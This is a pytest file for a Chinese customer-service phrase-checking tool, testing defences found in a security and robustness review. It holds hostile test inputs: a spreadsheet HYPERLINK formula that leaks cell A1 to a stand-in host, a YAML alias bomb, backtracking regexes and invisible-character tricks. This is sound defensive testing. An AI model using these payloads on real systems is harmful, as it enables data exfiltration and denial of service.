"""Issue 15: nothing charged to the wrong person, nothing dropped in silence, no crash from a file a
user can write. Each test here is one of the probes that found a defect, rerun."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from phrasecheck.cells import is_safe_cell
from phrasecheck.cli import main
from phrasecheck.scoring.review import read_reviews
from reports_helpers import GREETING, write_day

EVIL = '=HYPERLINK("http://x.example/?"&A1,"点我")'


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _cells_safe(rows: list[list[str]]) -> bool:
    return all(is_safe_cell(cell) for row in rows for cell in row)


def _chat(path: Path, convs: list[tuple[str, str, list[tuple[str, str]]]], agent_per_turn: bool = False) -> Path:
    """convs: (conversation_id, agent_id, [(role, text)]); with agent_per_turn the agent id may be
    'A1>A2' and turns after a 'transfer' marker get the second id."""
    lines = []
    for cid, agent, turns in convs:
        for role, text in turns:
            lines.append(json.dumps({"conversation_id": cid, "agent_id": agent, "role": role, "text": text}, ensure_ascii=False))
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# --- formula injection ----------------------------------------------------------------------------


def test_no_written_csv_cell_starts_a_formula(tmp_path):
    day = _chat(tmp_path / "day.jsonl", [(EVIL, "+A1", [("customer", "hi"), ("agent", GREETING), ("customer", "x"), ("agent", "-这个我不知道")])])
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["report", str(day), "--out", str(out)])
    assert res.exit_code == 0, res.output
    for name in ("review.csv", "calls.csv", "kpi.csv"):
        rows = _rows(out / name)
        assert _cells_safe(rows), name
        assert any(cell == "'" + EVIL for row in rows for cell in row) or name == "kpi.csv", name
    res = CliRunner().invoke(main, ["check", str(day), "--format", "csv", "--fail-on", "none"])
    rows = list(csv.reader(io.StringIO(res.output)))
    assert _cells_safe(rows) and ["'" + EVIL, "'+A1"] == rows[1][1:3]
    # review.csv is read back as it was written: the key and conversation id without the apostrophe
    (entry,) = read_reviews(out / "review.csv").values()
    assert entry.conversation_id == EVIL and entry.key.endswith(f"{EVIL}:F02:4:4")


# --- who is charged: review keys carry the source file ------------------------------------------


def _two_days(tmp_path: Path) -> tuple[Path, Path]:
    """Two days' exports that both number their conversations from c1; different agents said 不知道."""
    a = _chat(tmp_path / "dayA" / "chats.jsonl", [("c1", "A1", [("customer", "停车费"), ("agent", GREETING), ("customer", "?"), ("agent", "这个我不知道。")])])
    b = _chat(tmp_path / "dayB" / "chats.jsonl", [("c1", "B2", [("customer", "停车费"), ("agent", GREETING), ("customer", "?"), ("agent", "这个我不知道。")])])
    return a, b


def test_the_same_conversation_id_in_two_files_gives_two_review_rows_and_one_verdict_each(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)]).exit_code == 0
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    assert [(r["agent_id"], r["source"]) for r in rows] == [("A1", str(a)), ("B2", str(b))]
    res = CliRunner().invoke(main, ["review-mark", str(out / "findings.json"), "--finding", f"{a}:c1:F02", "--verdict", "false"])
    assert res.exit_code == 0, res.output
    assert CliRunner().invoke(main, ["report", str(out / "findings.json"), "--out", str(out)]).exit_code == 0
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert (agents["A1"]["forbidden"], agents["B2"]["forbidden"]) == (0, 1)  # overruling A1's left B2's standing
    # the short key alone is ambiguous now, and says so
    res = CliRunner().invoke(main, ["review-mark", str(out / "findings.json"), "--finding", "c1:F02", "--verdict", "false"])
    assert res.exit_code == 2 and "ambiguous" in res.output


def test_an_old_review_file_is_migrated_where_one_finding_fits_and_reported_where_not(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    # keys as written before the source was part of them: 1-based (c1:F02:4:3), and 0-based (c1:F02:3:3)
    (out / "review.csv").write_text(
        "key,conversation_id,agent_id,rule,turn,quote,verdict,note,checked_by_lead\r\n"
        "c1:F02:3:3,c1,A1,F02,3,不知道,false,问的是别人,yes\r\n"
        "c1:F02:4:9,c1,,F02,4,不知道,confirmed,,\r\n",
        encoding="utf-8-sig",
    )
    res = CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)])
    assert res.exit_code == 0, res.output
    assert f"review entry c1:F02:3:3 is now {a}:c1:F02:4:3" in res.output  # the agent column says whose
    assert "review entry c1:F02:4:9 matches no finding" in res.output  # no finding at char 9: never guessed
    entries = read_reviews(out / "review.csv")
    assert entries[f"{a}:c1:F02:4:3"].verdict == "false" and entries[f"{b}:c1:F02:4:3"].verdict == ""
    assert entries[f"{a}:c1:F02:4:3"].extra == {"checked_by_lead": "yes"}  # a column the lead added survives
    assert entries["c1:F02:4:9"].verdict == "confirmed"  # kept, not lost


def test_an_ambiguous_old_key_is_not_applied(tmp_path):
    a, b = _two_days(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "review.csv").write_text("key,verdict\r\nc1:F02:4:3,false\r\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["report", str(a), str(b), "--out", str(out)])
    assert "review entry c1:F02:4:3 matches no finding" in res.output
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert (agents["A1"]["forbidden"], agents["B2"]["forbidden"]) == (1, 1)


def test_a_review_file_saved_by_excel_as_gbk_is_read(tmp_path):
    day = write_day(tmp_path / "day.jsonl")
    out = tmp_path / "out"
    CliRunner().invoke(main, ["report", str(day), "--out", str(out)])
    text = (out / "review.csv").read_text(encoding="utf-8-sig").replace(",c2,A1,F02,4,不知道,,", ",c2,A1,F02,4,不知道,误报,")
    (out / "review.csv").write_bytes(text.encode("gbk"))
    res = CliRunner().invoke(main, ["report", str(out / "findings.json"), "--out", str(out)])
    assert res.exit_code == 0, res.output
    agents = {k["agent_id"]: k for k in json.loads((out / "findings.json").read_text(encoding="utf-8"))["kpi"]}
    assert agents["A1"]["attitude"] == 10.0


# --- exit codes: 3 for a bug, with the traceback in a file ------------------------------------------


def test_an_internal_error_is_one_line_exit_3_and_a_traceback_file(tmp_path, monkeypatch):
    from phrasecheck.engine import checker as checker_module

    def broken(self, conv):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setenv("PHRASECHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(checker_module.Checker, "check", broken)
    day = write_day(tmp_path / "day.jsonl")
    res = CliRunner().invoke(main, ["check", str(day)])
    assert res.exit_code == 3
    (line,) = res.output.strip().splitlines()
    assert line.startswith("phrasecheck: internal error (ZeroDivisionError: division by zero); the full traceback is in ")
    saved = Path(line.rsplit(" ", 1)[1])
    assert saved.parent == tmp_path / "cache" / "crashes" and "Traceback" in saved.read_text(encoding="utf-8")
    assert "Traceback" not in res.output


# --- profiles and lexicons a user can write ---------------------------------------------------------------


def _profile(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "phrasecheck.yaml"
    path.write_text(text, encoding="utf-8")
    return path


BOMB = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi"))


@pytest.mark.parametrize(
    "text, message",
    [
        (BOMB, "phrasecheck.yaml:2: invalid YAML: YAML aliases (*a) are not allowed here"),
        ("weights: {max_score: 0}\n", "weights.max_score must be above 0"),
        ("weights: {forbidden: .nan}\n", "weights.forbidden must be a number >= 0, got nan"),
        ("weights: {greeting: .inf}\n", "weights.greeting must be a number >= 0, got inf"),
        ("thresholds: {F99: 80}\n", "thresholds: unknown rule id F99"),
        ("fatal: [F11, F1l]\n", "fatal: unknown rule id F1l"),
    ],
)
def test_a_bad_profile_is_one_clear_line(tmp_path, text, message):
    day = write_day(tmp_path / "day.jsonl")
    res = CliRunner().invoke(main, ["report", str(day), "--out", str(tmp_path / "out"), "--config", str(_profile(tmp_path, text))])
    assert res.exit_code == 2, res.output
    assert message in res.output and len(res.output.strip().splitlines()) == 1


def test_a_huge_settings_file_is_refused_before_parsing(tmp_path):
    path = _profile(tmp_path, "company: [" + "x, " * 400_000 + "x]\n")
    res = CliRunner().invoke(main, ["lexicon", "check", str(path)])
    assert res.exit_code == 2 and "too big for a settings file" in res.output


def _lexicon_with_exception(tmp_path: Path, pattern: str) -> Path:
    folder = tmp_path / "lex"
    folder.mkdir()
    (folder / "forbidden.yaml").write_text(
        f"kind: forbidden\nphrases:\n  - id: F02\n    text: 不知道\n    exceptions: ['{pattern}']\n",
        encoding="utf-8",
    )
    return folder


def test_an_exception_regex_with_nested_quantifiers_is_refused_when_loaded(tmp_path):
    folder = _lexicon_with_exception(tmp_path, "(a+)+$")
    res = CliRunner().invoke(main, ["lexicon", "check", str(folder / "forbidden.yaml")])
    assert res.exit_code == 2 and "forbidden.yaml:3: F02: bad exception pattern '(a+)+$': a repeated group" in res.output
    res = CliRunner().invoke(main, ["check", "--lexicon", str(folder), str(write_day(tmp_path / "day.jsonl"))])
    assert res.exit_code == 2 and "bad exception pattern" in res.output


def test_an_exception_regex_that_backtracks_anyway_is_stopped_by_its_time_limit(tmp_path):
    from helpers import conv
    from phrasecheck.config.lexicon import load_lexicon
    from phrasecheck.config.profile import Profile
    from phrasecheck.engine.checker import Checker
    from phrasecheck.errors import ConfigError

    folder = _lexicon_with_exception(tmp_path, "(好|好好)+$")  # no nested quantifier, exponential all the same
    checker = Checker(load_lexicon(folder), Profile())
    with pytest.raises(ConfigError, match=r"forbidden.yaml:3: F02: exception pattern .* ran over 0.25 s"):
        checker.check(conv(("agent", "不知道" + "好" * 40 + "吗")))


# --- crashes from files a user can write ------------------------------------------------------------


def test_naive_and_zoned_timestamps_in_one_conversation_are_reported_not_a_crash(tmp_path):
    lines = [
        {"conversation_id": "c1", "agent_id": "A1", "role": "customer", "text": "停车费", "timestamp": "2026-11-26T09:00:00+08:00"},
        {"conversation_id": "c1", "agent_id": "A1", "role": "agent", "text": GREETING, "timestamp": "2026-11-26T09:00:20"},
        {"conversation_id": "c1", "agent_id": "A1", "role": "customer", "text": "多少钱", "timestamp": "2026-11-26T09:00:30+08:00"},
        {"conversation_id": "c1", "agent_id": "A1", "role": "agent", "text": "好的，请稍等，谢谢", "timestamp": "2026-11-26T09:00:50+08:00"},
    ]
    day = tmp_path / "day.jsonl"
    day.write_text("\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8")
    for args in (["report", str(day), "--out", str(tmp_path / "out")], ["kpi", str(day)], ["check", str(day)]):
        res = CliRunner().invoke(main, args)
        assert res.exit_code == 2, res.output
        assert "day.jsonl:2: timestamp 2026-11-26T09:00:20 has no time zone where the conversation's earlier ones have one" in res.output
        assert "Traceback" not in res.output
    doc = json.loads((tmp_path / "out" / "findings.json").read_text(encoding="utf-8"))
    (a1,) = doc["kpi"]
    assert a1["mean_response_s"] == 20.0  # the second block, both times zoned; the message without a time is still checked
    assert len(doc["conversations"][0]["turns"]) == 4


def test_a_read_only_or_broken_cache_is_one_line(tmp_path, monkeypatch):
    (tmp_path / "cache" / "transcripts.sqlite3").mkdir(parents=True)  # sqlite cannot open it (as root too)
    monkeypatch.setenv("PHRASECHECK_CACHE_DIR", str(tmp_path / "cache"))
    res = CliRunner().invoke(main, ["cache", "info"])
    assert res.exit_code == 2 and "cannot use the transcript cache" in res.output and "PHRASECHECK_CACHE_DIR" in res.output
    from phrasecheck.calls.cache import TranscriptCache

    assert TranscriptCache().usable() is not None  # scan then warns and transcribes without it


# --- limits ------------------------------------------------------------------------------------------


def test_an_overlong_line_is_reported_and_the_rest_of_the_file_is_checked(tmp_path):
    profile = _profile(tmp_path, "limits: {max_line_chars: 1000}\n")
    day = write_day(tmp_path / "day.jsonl")
    huge = json.dumps({"conversation_id": "c9", "agent_id": "Z", "role": "agent", "text": "啊" * 5000}, ensure_ascii=False)
    day.write_text(day.read_text(encoding="utf-8") + huge + "\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["check", str(day), "--config", str(profile), "--format", "json", "--fail-on", "none"])
    assert res.exit_code == 2
    doc = json.loads(res.stdout)
    assert [c["conversation_id"] for c in doc["conversations"]] == ["c1", "c2", "c3", "c4"]
    (err,) = doc["errors"]
    assert err["line"] == 19 and "over the limit of 1,000 (limits.max_line_chars in phrasecheck.yaml)" in err["reason"]
    # the same in a CSV export and a transcript
    (tmp_path / "t.txt").write_text("客服：" + "好" * 2000 + "\n", encoding="utf-8")
    (tmp_path / "c.csv").write_text("conversation_id,role,text\nc1,agent," + "好" * 2000 + "\nc1,customer,嗯\n", encoding="utf-8")
    res = CliRunner().invoke(main, ["check", str(tmp_path / "t.txt"), str(tmp_path / "c.csv"), "--config", str(profile)])
    assert res.exit_code == 2 and "t.txt:1: this turn is 2,000 characters" in res.output and "c.csv:2: this message is 2,000 characters" in res.output


def test_an_oversized_file_is_reported_before_it_is_read(tmp_path):
    profile = _profile(tmp_path, "limits: {max_file_mb: 0.001}\n")
    day = write_day(tmp_path / "day.jsonl")
    res = CliRunner().invoke(main, ["check", str(day), "--config", str(profile)])
    assert res.exit_code == 2 and "day.jsonl: the file is 0.0 MB, over the limit of 0.001 MB (limits.max_file_mb" in res.output


def test_a_recording_over_the_length_limit_is_not_transcribed(tmp_path):
    import numpy as np

    from phrasecheck.calls.batch import over_limits
    from phrasecheck.config.profile import Limits
    from test_transcribe import write_wav

    wav = write_wav(tmp_path / "long.wav", [np.zeros(8000 * 90, dtype=np.float32)])
    (err,) = over_limits([wav], Limits(max_recording_min=1)).values()
    assert "the recording is 1.5 minutes long, over the limit of 1 (limits.max_recording_min" in str(err)
    assert over_limits([wav], Limits()) == {}


# --- manifests ------------------------------------------------------------------------------------------


def _wav(path: Path) -> Path:
    import numpy as np

    from test_transcribe import write_wav

    path.parent.mkdir(parents=True, exist_ok=True)
    return write_wav(path, [np.zeros(800, dtype=np.float32)])


def test_manifest_rows_match_by_path_from_the_manifest_folder(tmp_path):
    from phrasecheck.calls.batch import recordings_meta

    a, b = _wav(tmp_path / "dayA" / "001.wav"), _wav(tmp_path / "dayB" / "001.wav")
    (tmp_path / "dayA" / "manifest.csv").write_text("file,agent_id,call_time\n001.wav,A1,2026-11-25T09:00:00+08:00\n", encoding="utf-8")
    meta, _, problems = recordings_meta([a, b], None, None)
    assert meta[str(a.resolve())]["agent_id"] == "A1" and str(b.resolve()) not in meta and problems == []
    # one manifest above both folders names them by relative path
    root = tmp_path / "manifest.csv"
    root.write_text("file,agent_id,call_time\ndayA/001.wav,A1,\ndayB/001.wav,B2,\n", encoding="utf-8")
    meta, _, problems = recordings_meta([a, b], root, None)
    assert (meta[str(a.resolve())]["agent_id"], meta[str(b.resolve())]["agent_id"]) == ("A1", "B2") and problems == []
    # a bare name from a manifest elsewhere: only when one recording has it
    other = tmp_path / "elsewhere" / "m.csv"
    other.parent.mkdir()
    other.write_text("file,agent_id,call_time\n001.wav,A1,\n", encoding="utf-8")
    meta, _, problems = recordings_meta([a, b], other, None)
    assert meta == {} and "001.wav: 2 recordings are called 001.wav" in str(problems[0])
    meta, _, problems = recordings_meta([b], other, None)
    assert meta[str(b.resolve())]["agent_id"] == "A1" and problems == []


def test_manifest_rows_that_cannot_be_used_are_each_reported_and_the_rest_used(tmp_path):
    from phrasecheck.calls.batch import recordings_meta

    wavs = [_wav(tmp_path / "day" / f"{n}.wav") for n in ("001", "002", "003", "004")]
    (tmp_path / "day" / "manifest.csv").write_text(
        "agent_id,file,call_time\n"
        "A1,001.wav,2026-11-25T09:00:00+08:00\n"
        "A2,002.wav,yesterday\n"  # a bad call_time: the row is used without it
        "A3\n"  # a short row: no file
        "A4,009.wav,\n"  # names a recording that is not there
        "A1,001.wav,2026-11-25T09:00:00+08:00\n"  # the same row twice
        "A5,003.wav,\n"
        "A6,003.wav,\n",  # 003 listed twice with different agents: neither is used
        encoding="utf-8",
    )
    meta, _, problems = recordings_meta(wavs, None, None)
    assert {Path(k).name: v["agent_id"] for k, v in meta.items()} == {"001.wav": "A1", "002.wav": "A2"}
    assert meta[str(wavs[1].resolve())]["started_at"] is None
    text = [str(p) for p in problems]
    assert [p.line for p in problems] == [3, 4, 5, 6, 8]
    assert "timestamp 'yesterday' is not ISO 8601" in text[0] and "002.wav is checked without its call time" in text[0]
    assert "this row names no file" in text[1]
    assert "009.wav: no such recording" in text[2]
    assert "001.wav is listed twice (also line 2)" in text[3]
    assert "003.wav is listed again with other details (first on line 7); neither row is used" in text[4]


# --- recordings: no speech, more than two channels ----------------------------------------------


def test_a_recording_without_speech_is_a_warning_and_not_scored(tmp_path, monkeypatch):
    import numpy as np

    from phrasecheck.calls import batch
    from test_transcribe import FakeTranscriber, write_wav

    monkeypatch.setenv("PHRASECHECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setattr(batch, "WhisperTranscriber", lambda options: FakeTranscriber([]))  # hears nothing
    day = tmp_path / "day"
    day.mkdir()
    write_wav(day / "silence.wav", [np.zeros(8000 * 5, dtype=np.float32)] * 2)
    write_wav(day / "blip.wav", [np.zeros(400, dtype=np.float32)])  # 50 ms
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["scan", str(day), "--out", str(out), "--jobs", "1"])
    assert res.exit_code == 0, res.output  # a warning does not fail the scan
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    assert doc["conversations"] == [] and doc["kpi"] == []  # no G01, no courtesy shortfall, no score
    reasons = sorted((Path(e["path"]).name, e["reason"], e.get("warning")) for e in doc["errors"])
    assert reasons == [("blip.wav", "no speech in 0.1 s of audio; not scored", True), ("silence.wav", "no speech in 5.0 s of audio; not scored", True)]
    assert "warning: " in res.output and "no speech" in (out / "report.html").read_text(encoding="utf-8")


def test_more_than_two_channels_need_the_profile_to_say_which_is_whose(tmp_path):
    import numpy as np

    from phrasecheck.calls.audio import load_audio
    from phrasecheck.calls.batch import make_options
    from phrasecheck.config.profile import load_profile
    from phrasecheck.errors import InputError
    from test_transcribe import write_wav

    t = np.arange(8000) / 8000
    levels = [0.1, 0.2, 0.3, 0.4]
    wav = write_wav(tmp_path / "quad.wav", [level * np.sin(2 * np.pi * 300 * t) for level in levels])
    with pytest.raises(InputError, match=r"4 audio channels: say which is the agent's and which the customer's in phrasecheck.yaml"):
        load_audio(str(wav))
    profile = load_profile(_profile(tmp_path, "channels: {agent: 4, customer: 2}\n"))
    options = make_options("base", "cpu", None, None, profile.agent_channel, 1, profile.channels)
    audio = load_audio(str(wav), options.channel_map)
    assert [round(float(np.abs(ch).max()), 1) for ch in audio.channels] == [0.4, 0.2]  # agent first
    with pytest.raises(InputError, match="but the recording has 4 channels"):
        load_audio(str(wav), (5, 1))
    bad = _profile(tmp_path, "channels: {agent: 1}\n")
    res = CliRunner().invoke(main, ["lexicon", "check", str(bad)])
    assert res.exit_code == 2 and "channels must give agent and customer a channel number each" in res.output


# --- nothing skipped in silence ---------------------------------------------------------------------


def test_links_fifos_and_loops_under_a_folder_are_each_reported_or_followed(tmp_path):
    import os

    day = tmp_path / "day"
    (day / "real").mkdir(parents=True)
    write_day(day / "real" / "a.jsonl")
    other = tmp_path / "other"
    other.mkdir()
    write_day(other / "b.jsonl")
    os.symlink(other, day / "linked")  # a symlinked subfolder: followed
    os.symlink(day / "real" / "a.jsonl", day / "again.jsonl")  # the same file twice: read once
    os.symlink(tmp_path / "nowhere.jsonl", day / "dangling.jsonl")
    os.mkfifo(day / "pipe.jsonl")
    os.symlink(day, day / "real" / "loop")
    res = CliRunner().invoke(main, ["check", str(day), "--format", "json", "--fail-on", "none"])
    assert res.exit_code == 2  # the broken link and the FIFO are inputs that could not be read
    doc = json.loads(res.stdout)
    # folders are walked in name order: again.jsonl (the link) comes before real/a.jsonl, read once
    assert sorted({Path(c["source"]).name for c in doc["conversations"]}) == ["again.jsonl", "b.jsonl"]
    assert len(doc["conversations"]) == 8
    reasons = {Path(e["path"]).name: e["reason"] for e in doc["errors"]}
    assert reasons["dangling.jsonl"].startswith("broken symbolic link")
    assert reasons["pipe.jsonl"].startswith("not a regular file (a FIFO")
    assert reasons["loop"].startswith("symbolic link loop")
    assert reasons["a.jsonl"].startswith(f"the same file as {day / 'again.jsonl'}")
    assert "warning: " in CliRunner().invoke(main, ["check", str(day)]).output  # the loop and the double are warnings


# --- transfers: each agent charged with their own turns ------------------------------------------


def test_a_transfer_charges_each_turn_to_its_own_agent(tmp_path):
    rows = [
        ("customer", "A1", "我要投诉物业"),
        ("agent", "A1", GREETING),
        ("customer", "A1", "你们电梯老坏"),
        ("agent", "A1", "好的，请稍等，谢谢您，我帮您转接主管"),
        ("customer", "A1", "快点"),
        ("agent", "S9", "有本事你去告"),
    ]
    day = tmp_path / "day.jsonl"
    day.write_text(
        "\n".join(json.dumps({"conversation_id": "c1", "agent_id": a, "role": r, "text": t}, ensure_ascii=False) for r, a, t in rows) + "\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    res = CliRunner().invoke(main, ["report", str(day), "--out", str(out)])
    assert res.exit_code == 0, res.output
    doc = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    (c,) = doc["conversations"]
    assert c["agent_id"] == "A1" and c["notes"] == ["transfer: A1 → S9 at turn 6"]
    (f11,) = [f for f in c["findings"] if f["id"] == "F11"]
    assert f11["agent_id"] == "S9"
    kpi = {a["agent_id"]: a for a in doc["kpi"]}
    assert (kpi["A1"]["fatal"], kpi["A1"]["attitude"]) == (0, 10.0)  # A1's part: greeting, courtesy, nothing wrong
    assert (kpi["S9"]["fatal"], kpi["S9"]["attitude"]) == (1, 0.0)
    rows = list(csv.DictReader((out / "review.csv").open(encoding="utf-8-sig")))
    assert [(r["rule"], r["agent_id"]) for r in rows] == [("F11", "S9")]
    assert "transfer: A1 → S9 at turn 6" in CliRunner().invoke(main, ["check", str(day)]).output
    # read back from findings.json, the charge is the same
    res = CliRunner().invoke(main, ["kpi", str(out / "findings.json"), "-o", str(tmp_path / "k.csv")])
    sheet = {r["坐席 agent"]: r for r in csv.DictReader((tmp_path / "k.csv").open(encoding="utf-8-sig"))}
    assert (sheet["A1"]["一票否决会话 fatal"], sheet["S9"]["一票否决会话 fatal"]) == ("0", "1")


# --- text that shows as a forbidden phrase is matched as shown ---------------------------------------


@pytest.mark.parametrize(
    "text, quote",
    [
        ("这个我\u202e道知不", "道知不"),  # a right-to-left override: shows as 这个我不知道
        ("这个我不\u3164知道", "不\u3164知道"),  # a Hangul filler: blank on screen
        ("这个我不\u200b知\u2060道", "不\u200b知\u2060道"),  # zero-width space and word joiner
    ],
)
def test_invisible_characters_do_not_hide_a_forbidden_phrase(checker, text, quote):
    from helpers import agent_says, ids

    r = checker.check(agent_says(text))
    assert ids(r, "forbidden") == ["F02"]
    (f,) = [f for f in r.findings if f.id == "F02"]
    turn = r.conversation.turns[f.turn].text
    assert 0 <= f.start_char < f.end_char <= len(turn) and turn[f.start_char : f.end_char] == quote


def test_a_redacted_report_does_not_hold_the_recordings_absolute_paths(tmp_path):
    from phrasecheck.config.profile import Profile
    from phrasecheck.report.folder import write_report_folder
    from reports_helpers import call_run, checker

    chk = checker()
    folder = tmp_path / "secret-folder-name"
    folder.mkdir()
    run = call_run(folder, chk)
    write_report_folder(run, Profile(), folder / "out", chk.fatal)
    html = (folder / "out" / "report.html").read_text(encoding="utf-8")
    assert "../call%201.wav" in html  # the player still finds it beside the report folder
    assert "file:///" not in html and (folder / "call 1.wav").as_uri() not in html
    write_report_folder(run, Profile(), folder / "out2", chk.fatal, redact=False)  # --no-redact: the fallback stays
    assert (folder / "call 1.wav").as_uri() in (folder / "out2" / "report.html").read_text(encoding="utf-8")


def test_workers_end_when_their_parent_is_killed(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    if not sys.platform.startswith("linux"):
        pytest.skip("PR_SET_PDEATHSIG is Linux's")
    script = tmp_path / "parent.py"
    script.write_text(
        "import os, signal, sys, time\n"
        "from concurrent.futures import ProcessPoolExecutor\n"
        # a parent that ignores SIGTERM (its workers inherit that): they must still end with it
        "signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "from phrasecheck.calls.batch import die_with_parent\n"
        "def work(_):\n"
        # one write per line: two workers' print() calls (text, then newline) could interleave
        "    sys.stdout.write(f'{os.getpid()}\\n'); sys.stdout.flush()\n"
        "    time.sleep(60)\n"
        "pool = ProcessPoolExecutor(2, initializer=die_with_parent)\n"
        "pool.map(work, range(2))\n"
        "time.sleep(60)\n",
        encoding="utf-8",
    )
    parent = subprocess.Popen([sys.executable, str(script)], stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
    workers = [int(parent.stdout.readline()) for _ in range(2)]
    os.kill(parent.pid, signal.SIGKILL)  # kill only the parent, as a user's kill -9 would
    parent.wait()

    def alive(pid: int) -> bool:
        try:
            with open(f"/proc/{pid}/stat", encoding="utf-8") as f:
                return f.read().split(") ")[1][0] != "Z"
        except FileNotFoundError:
            return False

    for _ in range(300):  # up to 30 s: under load (Whisper on every core) the SIGTERM takes a while to be acted on
        if not any(alive(w) for w in workers):
            break
        time.sleep(0.1)
    still = [w for w in workers if alive(w)]
    for w in still:
        os.kill(w, signal.SIGKILL)
    assert still == []


def test_a_csv_field_past_the_limit_does_not_hide_the_rows_after_it(tmp_path):
    profile = _profile(tmp_path, "limits: {max_line_chars: 1000}\n")
    path = tmp_path / "c.csv"
    path.write_text(
        "conversation_id,role,text\nc1,agent," + "好" * 9000 + "\nc2,agent,这个我不知道\nc2,customer,嗯\n",
        encoding="utf-8",
    )
    res = CliRunner().invoke(main, ["check", str(path), "--config", str(profile), "--format", "json", "--fail-on", "none"])
    doc = json.loads(res.stdout)
    assert [c["conversation_id"] for c in doc["conversations"]] == ["c2"]
    (err,) = doc["errors"]
    assert err["line"] == 2 and "over the limit of 1,000" in err["reason"]
